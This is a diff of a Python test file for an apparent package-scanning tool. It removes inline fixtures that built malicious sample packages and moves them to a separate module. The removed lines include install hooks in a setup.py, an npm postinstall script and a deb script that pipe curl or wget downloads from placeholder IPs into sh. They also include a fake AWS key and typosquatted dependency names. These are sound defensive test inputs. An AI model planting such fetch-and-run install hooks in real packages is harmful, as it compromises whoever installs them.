@@ -9,14 +9,13 @@ be lost in worker processes and show here as a difference.
 from __future__ import annotations
 
 import json
-import shutil
-import subprocess
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from builders import deb_bytes, gzip_bytes, tar_bytes, write, zip_bytes
+from builders import gzip_bytes, tar_bytes, write, zip_bytes
+from corpus import release_members
 from finalexam.config import Config
 from finalexam.diffing.api import diff
 from finalexam.diffing.baseline import exam_with_baseline
@@ -28,108 +27,6 @@ from finalexam.report.base import RenderOptions
 from finalexam.report.json import JsonReporter
 
 STAMP = "2024-01-01T00:00:00Z"
-SETUP_PY = """\
-from setuptools import setup
-from setuptools.command.install import install
-from evilpkg.helpers import post_install
-
-
-class Install(install):
-    def run(self):
-        install.run(self)
-        post_install()
-
-
-setup(name="evil-pkg", version="1.0", cmdclass={"install": Install})
-"""
-HELPERS = """\
-import os
-
-
-def post_install():
-    os.system("curl -s http://203.0.113.9/stage2 | sh")
-"""
-INSTALL_JS = """\
-const { execSync } = require("child_process");
-execSync("curl -s http://198.51.100.7/p.sh | sh");
-"""
-C_SOURCE = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n'
-AWS_KEYS = 'aws_access_key_id = "AKIAQYLPMN5HHHFPZAM2"\n'
-
-
-def _sdist() -> bytes:
-    root = "evil-pkg-1.0"
-    return gzip_bytes(
-        tar_bytes(
-            {
-                f"{root}/PKG-INFO": "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n\n",
-                f"{root}/setup.py": SETUP_PY,
-                f"{root}/evilpkg/__init__.py": "",
-                f"{root}/evilpkg/helpers.py": HELPERS,
-                f"{root}/evil_pkg.egg-info/requires.txt": "reqeusts\n",
-            }
-        )
-    )
-
-
-def _wheel() -> bytes:
-    info = "shadow-1.0.dist-info"
-    return zip_bytes(
-        {
-            f"{info}/METADATA": "Metadata-Version: 2.1\nName: shadow\nVersion: 1.0\n\n",
-            f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-            f"{info}/RECORD": "",
-            "requests/__init__.py": "from shadow import *\n",
-            "shadow/__init__.py": "import os\nTOKEN = os.environ.get('HOME')\n",
-        }
-    )
-
-
-def _npm() -> bytes:
-    manifest = {
-        "name": "lib",
-        "version": "1.0.0",
-        "scripts": {"postinstall": "node install.js"},
-        "dependencies": {"lodash": "4.17.20", "expresss": "^4.0.0"},
-    }
-    return gzip_bytes(
-        tar_bytes(
-            {
-                "package/package.json": json.dumps(manifest, indent=2),
-                "package/install.js": INSTALL_JS,
-                "package/config.ini": AWS_KEYS,
-            }
-        )
-    )
-
-
-def _jar() -> bytes:
-    pom = "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
-    return zip_bytes(
-        {
-            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nImplementation-Version: 2.14.1\n",
-            pom: "groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n",
-            "org/apache/logging/log4j/core/Logger.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
-            + bytes(56),
-        }
-    )
-
-
-def _deb() -> bytes:
-    control = "Package: tool\nVersion: 1.2-3\nArchitecture: amd64\nMaintainer: x <x@example.org>\n"
-    script = "#!/bin/sh\nwget -q -O- http://192.0.2.44/i | sh\n"
-    return deb_bytes(control, {"usr/bin/tool-update": script})
-
-
-def _binary(directory: Path) -> bytes:
-    compiler = shutil.which("gcc")
-    if compiler is None:
-        pytest.skip("gcc is not installed (see .ci/system-packages)")
-    source = directory / "hello.c"
-    source.write_text(C_SOURCE)
-    out = directory / "hello"
-    subprocess.run([compiler, "-O1", "-o", str(out), str(source)], check=True)
-    return out.read_bytes()
 
 
 @pytest.fixture(scope="module")
@@ -137,15 +34,7 @@ def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """One bundle holding an sdist with install hooks, a wheel, an npm tarball, a jar, a deb
     and an ELF binary."""
     directory = tmp_path_factory.mktemp("parallel")
-    members = {
-        "evil-pkg-1.0.tar.gz": _sdist(),
-        "shadow-1.0-py3-none-any.whl": _wheel(),
-        "lib-1.0.0.tgz": _npm(),
-        "log4j-core-2.14.1.jar": _jar(),
-        "tool_1.2-3_amd64.deb": _deb(),
-        "bin/hello": _binary(directory),
-    }
-    return write(directory / "release.zip", zip_bytes(members))
+    return write(directory / "release.zip", zip_bytes(release_members(directory)))
 
 
 def _config(jobs: int, **changes: object) -> Config:
